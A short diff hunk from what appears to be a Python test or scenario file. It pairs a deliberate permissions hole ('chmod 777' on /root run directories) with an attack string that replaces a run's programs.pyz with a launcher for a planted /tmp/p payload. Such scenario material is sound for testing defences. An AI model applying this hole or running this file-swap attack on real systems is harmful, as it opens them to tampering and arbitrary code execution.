@@ -95,7 +95,7 @@ WAYS = {
     "the programs of the run": Way(
         hole="chmod 777 /root /root/runs /root/runs/*",
         attack=(
-            "cd /root/runs/* && rm supervisor.py && printf 'import os\\nos.system(\"/tmp/p\")\\n' > supervisor.py;"
+            "cd /root/runs/* && rm programs.pyz && printf 'import os\\nos.system(\"/tmp/p\")\\n' > programs.pyz;"
             "plant /tmp/p"
         ),
     ),
